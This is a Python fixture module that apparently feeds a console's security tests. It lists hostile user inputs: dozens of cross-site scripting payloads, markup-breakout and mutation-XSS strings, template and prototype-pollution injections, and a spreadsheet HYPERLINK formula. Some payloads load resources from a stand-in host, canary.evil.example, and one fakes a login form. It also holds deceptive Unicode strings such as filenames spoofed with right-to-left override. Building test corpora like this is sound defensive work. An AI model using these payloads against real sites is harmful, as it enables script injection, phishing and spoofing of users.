"""What strangers write to be shown by a console: names, subjects, texts, files' names. Each alone, each of our making.

Whatever becomes an element carries `data-evil`, whatever runs rings `__alarm`, whatever is fetched comes from CANARY.
"""

CANARY = "canary.evil.example"
_RING = "__alarm(1)"

ELEMENTS = (
    f"<script data-evil>{_RING}</script>",
    f"<script data-evil src=//{CANARY}/a.js></script>",
    f"<ScRiPt data-evil>{_RING}</sCrIpT >",
    f"<script\x0cdata-evil>{_RING}</script\n>",
    f"<img data-evil src=//{CANARY}/b onerror={_RING}>",
    f'<img data-evil src="x"onerror="{_RING}">',
    f"<img data-evil/src=x/onerror={_RING}//",
    f"<img data-evil srcset=//{CANARY}/c>",
    f"<svg data-evil onload={_RING}>",
    f"<svg data-evil><script href=data:,{_RING} /></svg>",
    f"<svg data-evil><animate onbegin={_RING} attributeName=x dur=1s>",
    f"<svg data-evil><use href=//{CANARY}/d#x></use></svg>",
    f"<svg data-evil><a xlink:href=javascript:{_RING}><text y=20>go</text></a></svg>",
    f"<svg data-evil><foreignObject><iframe srcdoc='&lt;script>parent.{_RING}&lt;/script>'></foreignObject></svg>",
    f"<body data-evil onload={_RING}>",
    f"<body data-evil onpageshow={_RING}>",
    f"<details data-evil open ontoggle={_RING}>now</details>",
    f"<input data-evil autofocus onfocus={_RING}>",
    f"<select data-evil autofocus onfocus={_RING}><option>1</select>",
    f"<marquee data-evil onstart={_RING}>now</marquee>",
    f"<video data-evil src=//{CANARY}/e onerror={_RING}></video>",
    f"<audio data-evil src=x onerror={_RING} autoplay></audio>",
    f"<iframe data-evil src=javascript:parent.{_RING}></iframe>",
    f"<iframe data-evil srcdoc='<script>parent.{_RING}</script>'></iframe>",
    f"<object data-evil data=//{CANARY}/f></object>",
    f"<embed data-evil src=//{CANARY}/g>",
    f"<link data-evil rel=stylesheet href=//{CANARY}/h.css>",
    f"<link data-evil rel=prefetch href=//{CANARY}/i>",
    f"<meta data-evil http-equiv=refresh content='0;url=//{CANARY}/j'>",
    f"<base data-evil href=//{CANARY}/>",
    f"<form data-evil action=//{CANARY}/k><button autofocus>Log in again</button></form>",
    f"<style data-evil>@import '//{CANARY}/l.css'; * {{ background: url(//{CANARY}/m) }}</style>",
    f"<p data-evil style='background:url(//{CANARY}/n);width:expression({_RING})'>css</p>",
    f"<p data-evil style='position:fixed;inset:0;z-index:99999' onmouseover={_RING}>over all</p>",
    f"<a data-evil href=javascript:{_RING}>one</a>",
    f"<a data-evil href='java&#9;script:{_RING}'>two</a>",
    f"<a data-evil href='\x01javascript:{_RING}'>three</a>",
    f"<a data-evil href='data:text/html,<script>{_RING}</script>'>four</a>",
    f"<x data-evil contenteditable onblur={_RING}>lose this focus</x>",
    f"<div data-evil onanimationstart={_RING} style='animation:x 1s'>moves</div>",
    f"<template data-evil><img src=x onerror={_RING}></template>",
)
"""What becomes an element wherever it is taken for markup."""

BREAKING = (
    f'"><img data-evil src=x onerror={_RING}>',
    f"'><svg data-evil onload={_RING}>",
    f"` data-evil onmouseover={_RING} x=`",
    f"</title><script data-evil>{_RING}</script>",
    f"</textarea><script data-evil>{_RING}</script>",
    f"</script><script data-evil>{_RING}</script>",
    f"</style><img data-evil src=x onerror={_RING}>",
    f"--><img data-evil src=x onerror={_RING}><!--",
    f"]]><script data-evil>{_RING}</script>",
    f"<noscript><p title='</noscript><img data-evil src=x onerror={_RING}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img data-evil title='--&gt;&lt;img src=x onerror={_RING}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><style><path id='</style><img data-evil onerror={_RING} src>'>",
    f"<svg></p><style><a id='</style><img data-evil src=x onerror={_RING}>'>",
    f"<listing>&lt;img data-evil src=x onerror={_RING}&gt;</listing>",
    f"${{{_RING}}} #{{{_RING}}} {{{{{_RING}}}}} <%= {_RING} %>",
    f"{{{{constructor.constructor('{_RING}')()}}}}",
    f"\\u003cimg data-evil src=x onerror={_RING}\\u003e",
    f"&lt;img data-evil src=x onerror={_RING}&gt;",
    f"%3Cimg data-evil src=x onerror={_RING}%3E",
    f"\uff1cimg data-evil src=x onerror={_RING}\uff1e",
    f"+ADw-script data-evil+AD4-{_RING}+ADw-/script+AD4-",
    f"javascript:{_RING}//",
    f"data:text/html;base64,PHNjcmlwdD5fX2FsYXJtKDEpPC9zY3JpcHQ+#{CANARY}",
    f"//{CANARY}/o?javascript:{_RING}",
    '{"__proto__":{"innerHTML":"<img data-evil>"},"toString":null}',
    "__proto__",
    "constructor.prototype",
    '=HYPERLINK("http://canary.evil.example/p","open")',
)
"""What breaks out of a place, or becomes markup only later."""

LETTERS = (
    "\u202egnp.exe invoice",
    "admin\u202d\u202e\u2066\u2069\u2067 <- who",
    "\u200f\u200e\u061c mixed שלום العربية and back",
    "zero\u200bwidth\u200djoiners\ufeffin\u2060a\u180ename",
    "раураl secure login",
    "Z\u0351\u0352\u0357\u035b\u0363" * 40 + "algo",
    "null \x00 byte and \x07 bell and \x1b[31mred",
    "\ufffe\uffff\U000e0001\U000e0041 tags",
    "new\r\nline: injected\u2028and\u2029more",
    "long" * 2_000,
    "wide " + "W" * 5_000,
    "👩‍👩‍👧‍👦" * 200,
    "\U00012031" * 60 + "﷽" * 60,
)
"""What misleads by letters alone, or by how many there are."""

ALL = (*ELEMENTS, *BREAKING, *LETTERS)
